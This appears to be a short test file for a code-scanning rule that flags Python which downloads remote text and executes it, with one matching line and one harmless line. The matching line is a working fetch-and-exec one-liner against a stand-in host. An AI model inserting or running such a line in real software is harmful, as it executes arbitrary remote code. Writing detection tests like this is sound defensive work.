# ruleid: py_exec_decoded
eval(compile(__import__('requests').get('https://cdn.example.top/c').text, 'x', 'exec'))
# ok: py_exec_decoded
data = __import__('requests').get(URL).json()
